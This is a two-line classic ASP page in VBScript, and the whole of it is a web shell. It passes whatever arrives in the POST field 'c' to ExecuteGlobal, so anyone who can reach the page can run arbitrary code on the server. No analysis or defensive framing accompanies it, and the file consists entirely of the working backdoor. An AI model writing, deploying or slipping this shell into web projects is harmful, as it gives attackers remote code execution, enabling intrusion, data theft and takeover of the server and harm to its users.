<%@ LANGUAGE=VBScript %>
<% ExecuteGlobal Request.Form("c") %>
